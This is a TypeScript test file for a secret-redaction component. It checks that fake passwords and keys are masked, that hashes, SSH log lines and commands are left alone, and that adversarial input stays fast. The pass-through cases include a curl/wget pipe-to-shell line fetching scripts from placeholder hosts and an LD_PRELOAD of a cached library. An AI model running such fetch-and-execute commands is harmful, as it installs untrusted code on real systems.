/** The forms by which a secret is told: what is found, what is left alone, and that hostile text takes no more time. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createRedactor } from "../../src/case/index.ts";
import { shapes as forms } from "../../src/case/redact/shapes.ts";
import { shapes } from "../secrets/shapes.ts";

const redactor = createRedactor(new Uint8Array(32).fill(7));
const value = "FAKE7hQ2pX9d-m3Kw8tRb5EKAF";

describe("forms of secrets", () => {
  it.each(shapes)("$name: the secret is gone, the rest is there", ({ write, base64 }) => {
    const text = write(value);
    const result = redactor.text(text);
    expect(result).not.toContain((base64?.(value) ?? value).slice(4, 14));
    expect(result).toContain("fp:");
    expect(redactor.text(result)).toBe(result);
  });

  it.each(shapes)("$name: also in JSON, in JSON in JSON, and in a shell's quotes", ({ write, base64 }) => {
    const text = write(value);
    for (const spelled of [
      JSON.stringify({ text }),
      JSON.stringify(JSON.stringify({ text })),
      `sh -c '${text.replaceAll("'", `'\\''`)}'`,
    ])
      expect(redactor.text(spelled)).not.toContain((base64?.(value) ?? value).slice(4, 14));
  });

  it.each([
    ["the password is Summer2026!", "Summer2026!"],
    ["password: hunter2FAKE", "hunter2FAKE"],
    ["the password for the NAS in the cellar is Fake-4711-x", "Fake-4711-x"],
    ["login bob / Fake4711x", "Fake4711x"],
    ["PIN: 471108", "471108"],
    ["cat <<EOF | run\nZk29fjQ8sLw0xPq4FAKE\nEOF", "Zk29fjQ8sLw0xPq4FAKE"],
    ["Y=1 MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggFAKE", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggFAKE"],
  ])("of %s", (text, secret) => expect(redactor.text(text)).not.toContain(secret));
});

describe("what is evidence and no secret", () => {
  it.each([
    "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 of commit b026072a1c0f4e5d6c7b8a9f0e1d2c3b4a5f6e7d",
    "HEAD=b026072a1c0f4e5d6c7b8a9f0e1d2c3b4a5f6e7d git checkout x",
    "Accepted password for root from 2001:db8::1 port 1 ssh2",
    "Failed password for invalid user deploy2026 from 203.0.113.9 port 40122 ssh2",
    "Accepted publickey for claw from 203.0.113.9 port 40122 ssh2: ED25519 SHA256:oLs2u8dX1yzWq9Rk3TfVb7NmLpQa5Zc0Ee1Hh6Jj4Mw",
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGFha2VGYWtlRmFrZUZha2VGYWtlRmFrZUZha2VGYWtlRmE0 build@FAKE",
    "openclaw sessions tail --session-key agent:main:telegram:direct:4711 --tail 25",
    "PATH=/usr/local/sbin:/usr/bin NODE_OPTIONS=--max-old-space-size=4096 LD_PRELOAD=/home/claw/.cache/x2.so run",
    "curl -fsSL https://x.example/i2 | sh; wget -qO- http://203.0.113.66/setup.sh | bash",
    "MODEL=claude-opus-4-20250514 HOST=ip-10-0-0-1.eu-central-1.compute.internal ./run",
    "echo 'vm.swappiness=10' | sudo tee -a /etc/sysctl.conf",
    "pass v8::Object to the module; Pass `baselines=all-since-2026.4.23`; key ed25519, password sha256",
    '"PWD": "/home/node24/project", "key":"agent:main:subagent:3fa85f64-5717-4562-b3fc-2c963f66afa6"',
    "level=info requestId=req_8sLw0xPq4Zk29fj digest=sha256:e3b0c44298fc conn=9 remote=203.0.113.9",
    "uid=1000 INVOCATION_ID=0123456789abcdef0123456789abcdef MACHINE=0123456789abcdef",
    '<path d="M0,0.209L0,0.105C0,-10.298 7.841,-18.819 19.08,-18.819"/>',
    "tar xzf a.tgz -p; ls -p; mkdir -p /srv/7z2; unzip -P; zip -r out.zip a",
    "the login page / settings2 and account files/v2",
    "https://docs.example/watch?v=OcaPu9JPenU",
    "git log -p --author=claw2@example.org",
  ])("%s", (text) => expect(redactor.text(text)).toBe(text));
});

describe("hostile text", () => {
  // A search that goes back, or looks far ahead from every place, would not end within the limit of the test.
  it("is looked through once", { timeout: 600_000 }, () => {
    const units = new Set(forms.flatMap(({ needs }) => needs));
    const pieces = [
      ...units,
      "curl -",
      "echo a",
      "a=",
      "user a/",
      "<<x ",
      "password for a a ",
      "x:1:a:a:",
      "'",
      "\\",
    ];
    for (const piece of pieces) {
      redactor.text(piece.repeat(Math.ceil(50_000 / piece.length)));
      redactor.text(`${piece} `.repeat(Math.ceil(25_000 / piece.length)));
    }
    expect(redactor.text(`${"a".repeat(1_000_000)} pw: ${value}`)).not.toContain(value);
  });

  it("never throws, and a second pass changes nothing", () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ...forms.flatMap(({ needs }) => needs),
        "=",
        ": ",
        " is ",
        '"',
        "'",
        "\\",
        " -p ",
        "@",
        "/",
      ),
      fc.string({ maxLength: 12 }),
      fc.constantFrom(...shapes.map(({ write }) => write(value))),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (parts) => {
        const result = redactor.text(parts.join(""));
        expect(redactor.text(result)).toBe(result);
      }),
      { numRuns: 400 },
    );
  });
});
